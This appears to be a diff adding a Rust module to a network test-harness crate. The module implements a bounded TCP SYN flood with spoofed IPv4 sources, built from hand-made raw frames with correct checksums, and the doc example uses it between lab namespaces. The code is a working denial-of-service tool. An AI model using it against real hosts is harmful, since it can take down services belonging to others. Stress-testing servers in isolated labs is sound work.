@@ -1,0 +1,280 @@
+//! A SYN flood: TCP SYNs from spoofed IPv4 sources, written as raw Ethernet frames on an
+//! interface as fast as it takes them, bounded in count and in time.
+//!
+//! ```no_run
+//! use std::time::Duration;
+//! use corelane_testnet::{SynFlood, VethPair};
+//! let net = VethPair::builder().server_addr("10.77.0.1/24").client_addr("10.77.0.2/24").build()?;
+//! let mac = net.server_ns().mac(net.server_if())?;
+//! let flood = SynFlood::builder("10.77.0.1:7".parse().unwrap(), mac)
+//!     .sources("10.200.0.0".parse().unwrap(), 16)
+//!     .limit(1_000_000, Duration::from_secs(2))
+//!     .start(net.client_ns(), net.client_if())?;
+//! let sent = flood.join()?;
+//! # let _ = sent;
+//! # Ok::<(), corelane_testnet::Error>(())
+//! ```
+
+use std::net::{Ipv4Addr, SocketAddrV4};
+use std::sync::Arc;
+use std::sync::atomic::{AtomicBool, Ordering};
+use std::time::{Duration, Instant};
+
+use crate::packet::PacketSocket;
+use crate::{Error, Netns, NsThread, Result};
+
+/// How to flood: the target, the spoofed sources and the bounds.
+#[derive(Debug, Clone)]
+pub struct SynFloodBuilder {
+    target: SocketAddrV4,
+    target_mac: [u8; 6],
+    net: Ipv4Addr,
+    prefix: u8,
+    packets: u64,
+    duration: Duration,
+    seed: u64,
+}
+
+impl SynFloodBuilder {
+    /// Source addresses drawn at random from `net`/`prefix` (default 10.200.0.0/16).
+    pub fn sources(mut self, net: Ipv4Addr, prefix: u8) -> Self {
+        self.net = net;
+        self.prefix = prefix.min(32);
+        self
+    }
+
+    /// Stops after `packets` SYNs or after `duration`, whichever comes first (default 100 000
+    /// and 1 s).
+    pub fn limit(mut self, packets: u64, duration: Duration) -> Self {
+        self.packets = packets;
+        self.duration = duration;
+        self
+    }
+
+    /// Seeds the source addresses, ports and sequence numbers (default 1).
+    pub fn seed(mut self, seed: u64) -> Self {
+        self.seed = seed.max(1);
+        self
+    }
+
+    /// Starts the flood from `ifname` in `ns`.
+    pub fn start(self, ns: &Netns, ifname: &str) -> Result<SynFlood> {
+        let src_mac = ns.mac(ifname)?;
+        let stop = Arc::new(AtomicBool::new(false));
+        let s = stop.clone();
+        let ifname = ifname.to_string();
+        let thread = ns.spawn(move || -> std::io::Result<FloodReport> {
+            let sock = PacketSocket::open(&ifname, false)?;
+            Ok(self.run(&sock, src_mac, &s))
+        })?;
+        Ok(SynFlood {
+            stop,
+            thread: Some(thread),
+        })
+    }
+
+    fn run(&self, sock: &PacketSocket, src_mac: [u8; 6], stop: &AtomicBool) -> FloodReport {
+        let mut rng = self.seed;
+        let mut frame = [0u8; 58];
+        let host_bits = 32 - u32::from(self.prefix);
+        let mask = if host_bits == 32 {
+            u32::MAX
+        } else {
+            (1u32 << host_bits) - 1
+        };
+        let net = u32::from(self.net) & !mask;
+        let start = Instant::now();
+        let mut report = FloodReport::default();
+        while report.sent < self.packets && !stop.load(Ordering::Relaxed) {
+            // The clock is read once per 256 frames.
+            if report.sent % 256 == 0 && start.elapsed() >= self.duration {
+                break;
+            }
+            let r = xorshift(&mut rng);
+            let src = Ipv4Addr::from(net | ((r as u32) & mask).max(1));
+            let port = ((r >> 32) as u16).max(1024);
+            syn_frame(
+                &mut frame,
+                src_mac,
+                self.target_mac,
+                src,
+                port,
+                self.target,
+                (r >> 16) as u32,
+            );
+            match sock.send(&frame) {
+                Ok(true) => report.sent += 1,
+                Ok(false) => {
+                    report.refused += 1;
+                    std::thread::yield_now();
+                }
+                Err(_) => {
+                    report.refused += 1;
+                    break;
+                }
+            }
+        }
+        report.elapsed = start.elapsed();
+        report
+    }
+}
+
+/// What a flood sent.
+#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
+pub struct FloodReport {
+    /// SYNs written.
+    pub sent: u64,
+    /// Writes the device refused (its queue full).
+    pub refused: u64,
+    /// How long the flood ran.
+    pub elapsed: Duration,
+}
+
+impl FloodReport {
+    /// SYNs per second.
+    pub fn rate(&self) -> f64 {
+        self.sent as f64 / self.elapsed.as_secs_f64().max(1e-9)
+    }
+}
+
+/// A running flood; [`SynFlood::join`] waits for its bound, dropping it stops it.
+#[derive(Debug)]
+pub struct SynFlood {
+    stop: Arc<AtomicBool>,
+    thread: Option<NsThread<std::io::Result<FloodReport>>>,
+}
+
+impl SynFlood {
+    /// Starts a builder aimed at `target` (an IPv4 address and port) behind `target_mac`.
+    pub fn builder(target: SocketAddrV4, target_mac: [u8; 6]) -> SynFloodBuilder {
+        SynFloodBuilder {
+            target,
+            target_mac,
+            net: Ipv4Addr::new(10, 200, 0, 0),
+            prefix: 16,
+            packets: 100_000,
+            duration: Duration::from_secs(1),
+            seed: 1,
+        }
+    }
+
+    /// Waits until the flood reaches its bound.
+    pub fn join(mut self) -> Result<FloodReport> {
+        self.finish()
+    }
+
+    /// Stops the flood now.
+    pub fn stop(mut self) -> Result<FloodReport> {
+        self.stop.store(true, Ordering::Relaxed);
+        self.finish()
+    }
+
+    fn finish(&mut self) -> Result<FloodReport> {
+        let Some(t) = self.thread.take() else {
+            return Ok(FloodReport::default());
+        };
+        t.join()?.map_err(|source| Error::Io {
+            what: "sending the SYN flood".into(),
+            source,
+        })
+    }
+}
+
+impl Drop for SynFlood {
+    fn drop(&mut self) {
+        self.stop.store(true, Ordering::Relaxed);
+        let _ = self.finish();
+    }
+}
+
+fn xorshift(s: &mut u64) -> u64 {
+    *s ^= *s << 13;
+    *s ^= *s >> 7;
+    *s ^= *s << 17;
+    *s
+}
+
+/// Ones' complement sum of 16-bit words.
+fn sum16(data: &[u8], mut acc: u32) -> u32 {
+    for c in data.chunks(2) {
+        acc += u32::from(u16::from_be_bytes([c[0], *c.get(1).unwrap_or(&0)]));
+    }
+    acc
+}
+
+fn fold(mut acc: u32) -> u16 {
+    while acc > 0xffff {
+        acc = (acc & 0xffff) + (acc >> 16);
+    }
+    !(acc as u16)
+}
+
+/// Writes a 58-byte Ethernet + IPv4 + TCP SYN (with a 1460-byte MSS option) into `f`.
+fn syn_frame(
+    f: &mut [u8; 58],
+    src_mac: [u8; 6],
+    dst_mac: [u8; 6],
+    src: Ipv4Addr,
+    sport: u16,
+    dst: SocketAddrV4,
+    isn: u32,
+) {
+    f[0..6].copy_from_slice(&dst_mac);
+    f[6..12].copy_from_slice(&src_mac);
+    f[12..14].copy_from_slice(&0x0800u16.to_be_bytes());
+    let ip = &mut f[14..34];
+    ip.copy_from_slice(&[
+        0x45, 0, 0, 44, 0, 0, 0x40, 0, 64, 6, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0,
+    ]);
+    ip[12..16].copy_from_slice(&src.octets());
+    ip[16..20].copy_from_slice(&dst.ip().octets());
+    let c = fold(sum16(ip, 0));
+    ip[10..12].copy_from_slice(&c.to_be_bytes());
+    let tcp = &mut f[34..58];
+    tcp[0..2].copy_from_slice(&sport.to_be_bytes());
+    tcp[2..4].copy_from_slice(&dst.port().to_be_bytes());
+    tcp[4..8].copy_from_slice(&isn.to_be_bytes());
+    tcp[8..12].fill(0);
+    tcp[12] = 6 << 4; // 24 bytes of header
+    tcp[13] = 0x02; // SYN
+    tcp[14..16].copy_from_slice(&64240u16.to_be_bytes());
+    tcp[16..20].fill(0); // checksum, urgent pointer
+    tcp[20..24].copy_from_slice(&[2, 4, 0x05, 0xb4]);
+    let mut pseudo = [0u8; 12];
+    pseudo[0..4].copy_from_slice(&src.octets());
+    pseudo[4..8].copy_from_slice(&dst.ip().octets());
+    pseudo[9] = 6;
+    pseudo[10..12].copy_from_slice(&24u16.to_be_bytes());
+    let c = fold(sum16(tcp, sum16(&pseudo, 0)));
+    tcp[16..18].copy_from_slice(&c.to_be_bytes());
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn a_syn_frame_checks_out() {
+        let mut f = [0u8; 58];
+        let dst = SocketAddrV4::new(Ipv4Addr::new(10, 0, 0, 1), 80);
+        syn_frame(
+            &mut f,
+            [2; 6],
+            [4; 6],
+            Ipv4Addr::new(10, 200, 1, 2),
+            40000,
+            dst,
+            7,
+        );
+        // A correct checksum sums (with the pseudo-header) to all ones.
+        assert_eq!(fold(sum16(&f[14..34], 0)), 0);
+        let mut pseudo = [0u8; 12];
+        pseudo[0..4].copy_from_slice(&[10, 200, 1, 2]);
+        pseudo[4..8].copy_from_slice(&[10, 0, 0, 1]);
+        pseudo[9] = 6;
+        pseudo[11] = 24;
+        assert_eq!(fold(sum16(&f[34..], sum16(&pseudo, 0))), 0);
+        assert_eq!(f[34 + 13], 0x02);
+        assert_eq!(&f[34..36], &40000u16.to_be_bytes());
+    }
+}
